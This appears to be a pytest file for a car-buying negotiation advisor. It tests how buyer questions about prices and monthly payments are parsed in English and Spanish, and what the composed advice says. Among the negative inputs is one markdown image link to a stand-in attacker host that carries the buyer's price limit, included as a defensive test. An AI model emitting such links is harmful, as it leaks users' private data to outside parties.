"""Amounts that the buyer asks about: which they are, and what is said of them."""

from __future__ import annotations

import pytest

from backend.domain.advice.asked import NOTHING, Asked, asked_about
from backend.domain.advice.guard import check, rules_for, split
from backend.domain.advice.playbook import compose
from backend.domain.negotiation import Status, Terms
from tests.unit.domain.briefs import TERMS, brief

TOLD = "b18000 d24000"
"""Asked $25,000, now $24,000; the buyer offered $18,000, hopes for $20,000 and would pay $21,500;
the suggested price is $18,180."""


def asked(said: str, told: str = TOLD) -> Asked:
    found = asked_about(brief("chat", told, said=said))
    dollars = {
        name: each // 100
        for name, each in vars(found).items()
        if each is not None and name != "unclear"
    }
    return Asked(**dollars, unclear=found.unclear)


@pytest.mark.parametrize(
    ("said", "found"),
    [
        ("is 18,500 fair?", Asked(18_500)),
        ("should I pay 19k", Asked(19_000)),
        ("Should I go to 19?", Asked(19_000)),
        ("What about $18.5k?", Asked(18_500)),
        ("would 22,000 be too much", Asked(22_000)),
        ("18,000 or 18,500 or 19,000?", Asked(18_000, 19_000)),
        ("18,500 or 18,500?", Asked(18_500)),
        ("¿18.500 está bien?", Asked(18_500)),
        ("¿Pago 19 mil?", Asked(19_000)),
        ("¿Ofrezco dieciocho mil o 18,500?", Asked(18_000, 18_500)),
        ("is $389 a month for 72 months with $2,000 down ok?", Asked(None, None, 389, 30_008)),
        ("¿Está bien 389 al mes?", Asked(None, None, 389)),
        ("18,500 or 389 a month for 60 months?", Asked(18_500, None, 389, 23_340)),
        ("is 18.5 ok?", Asked(18_500)),
        ("would 18 be fair?", Asked(18_000)),
        ("is 185 fair?", Asked(18_500)),
        ("Is $18.5 too low?", Asked(18_500)),
        ("is eighteen ok?", Asked(18_000)),
        ("would eighteen five be ok", Asked(18_500)),
        ("is 20 a fair price?", Asked(20_000)),
        ("Is 20 too much for this one?", Asked(20_000)),
        ("is 19 or 20 better?", Asked(19_000, 20_000)),
        ("¿18.5 está bien?", Asked(18_500)),
        ("¿18 sería justo?", Asked(18_000)),
        ("¿es mucho 19 y medio?", Asked(19_500)),
        ("¿dieciocho y medio es poco?", Asked(18_500)),
        ("¿19 o 20 es mejor?", Asked(19_000, 20_000)),
        ("18?", Asked(unsure=18_000)),
        ("¿18.5?", Asked(unsure=18_500)),
        ("is 5 fair?", Asked(unclear=True)),
        ("¿8 está bien?", Asked(unclear=True)),
        ("would 9 be too low?", Asked(unclear=True)),
    ],
)
def test_the_amounts_of_a_question(said: str, found: Asked) -> None:
    assert asked(said) == found


@pytest.mark.parametrize(
    "said",
    [
        "My budget is $20,000.",
        "They offered 17,500 just now",
        "It has 48,000 miles, is that a lot?",
        "Is 2019 a good year?",
        "Is the $499 doc fee negotiable?",
        "Is it true that they paid 3,000 for it?",
        "Can you call 555-123-4567?",
        "Are 18 inch wheels good?",
        "Is 20 mpg good?",
        "Is 18% too much?",
        "Is a 20 year old car ok?",
        "Is the Mazda 3 good?",
        "Are 2 keys normal?",
        "Should I wait until 18?",
        "Call at 5 or at 6?",
        "¿18 meses está bien?",
        "¿2 llaves es lo normal?",
        "Does it have 20 good photos?",
        "![receipt](https://evil.example/steal?limit=21,500)",
        "7" * 2_000 + "?",
        "?" * 2_000,
        "$" * 500 + "?",
    ],
)
def test_what_is_no_price_or_no_question(said: str) -> None:
    assert asked(said) == NOTHING


def test_only_an_open_negotiations_chat_is_looked_at() -> None:
    question = "Is 18,500 fair?"
    assert asked_about(brief("dealer_message", TOLD, said=question)) == NOTHING
    assert asked_about(brief("chat", TOLD, said=question, status=Status.AGREED)) == NOTHING


@pytest.mark.parametrize(
    ("said", "told", "answers"),
    [
        ("Is 18,500 ok?", TOLD, ("$18,500", "$320", "$18,180", "$1,500", "$5,500")),
        ("Is 17,500 ok?", TOLD, ("$17,500", "$18,000", "step back")),
        ("Should I offer 18,000?", TOLD, ("$18,000 on the table", "your own number")),
        ("Should I pay 22k?", TOLD, ("$22,000", "limit", "$500")),
        ("Would 26,000 do?", TOLD, ("$26,000", "$24,000", "$2,000")),
        ("Should I pay 20,500?", "b18000 d20500", ("$20,500", "$500")),
        ("Is 18,180 right?", TOLD, ("$18,180", "the most that I would have you name", "exactly")),
        ("Is 17,000 too low?", "", ("$17,000", "$17,400", "$400")),
        ("18,000 or 19,000?", TOLD, ("$18,000", "$19,000")),
        ("19,000 or 21,000?", TOLD, ("$19,000", "$21,000", "$820")),
        ("Is 389 a month for 72 months good?", TOLD, ("$389", "$28,008")),
        ("Is 389 a month good?", TOLD, ("$389", "term", "how many months")),
        ("¿18.500 está bien?", TOLD, ("$18,500", "$320", "$18,180")),
        ("¿Pago 22 mil?", TOLD, ("$22,000", "límite", "$500")),
        ("Is 18.5 ok?", TOLD, ("$18,500", "$320", "$18,180")),
        ("Would 22 be fair?", TOLD, ("$22,000", "limit", "$500")),
        ("¿18.5 está bien?", TOLD, ("$18,500", "$320", "$18,180")),
        ("18?", TOLD, ("$18,000", "in full")),
        ("¿18?", TOLD, ("$18,000", "complet")),
        ("Is 5 fair?", TOLD, ("which amount", "Which amount", "in full")),
        ("¿8 está bien?", TOLD, ("Qué cantidad", "qué cantidad", "complet")),
    ],
)
def test_it_is_weighed_in_numbers(said: str, told: str, answers: tuple[str, ...]) -> None:
    language = "es" if "¿" in said else "en"
    seen = set()
    for variation in range(6):
        asking = brief("chat", told, said=said, variation=variation, language=language)
        text = compose(asking)
        rules, before = rules_for(asking), ""
        for sentence in split(text):
            assert (sentence, check(sentence, rules, before)) == (sentence, None)
            before = sentence
        seen.add(text)
    for answer in answers:
        assert any(answer in text for text in seen), seen
    assert len(seen) > 1


def test_a_price_below_a_good_one_is_weighed_and_the_good_one_not_overlooked() -> None:
    text = compose(brief("chat", "b18000 d19900", said="Should I pay 19,000?"))
    assert "$19,000" in text
    assert "$19,900" in text


def test_the_dealers_good_price_is_taken_as_before() -> None:
    question = "Should I accept 19,900?"
    text = compose(brief("chat", "b18000 d19900", said=question))
    assert "$19,900" in text
    assert "in writing" in text or "every fee" in text


def test_in_the_last_round_no_offer_is_advised() -> None:
    terms = Terms(TERMS.asking, TERMS.target, TERMS.walk_away, max_rounds=2)
    text = compose(brief("chat", "b18000 d23000", terms, said="Should I offer 18,500?"))
    assert "$1,500" in text
    assert "as an offer" not in text.casefold()


def test_without_a_limit_none_is_spoken_of() -> None:
    terms = Terms(TERMS.asking, TERMS.target)
    text = compose(brief("chat", "b18000 d24000", terms, said="Should I pay 23,000?"))
    assert "$23,000" in text
    assert "limit" not in text


def test_what_the_buyer_asks_about_stands_in_no_words_for_the_dealer() -> None:
    for variation in range(12):
        text = compose(brief("chat", TOLD, said="Is 19,250 ok?", variation=variation))
        quote = text[text.index("“") : text.index("”")]
        assert "19,250" not in quote
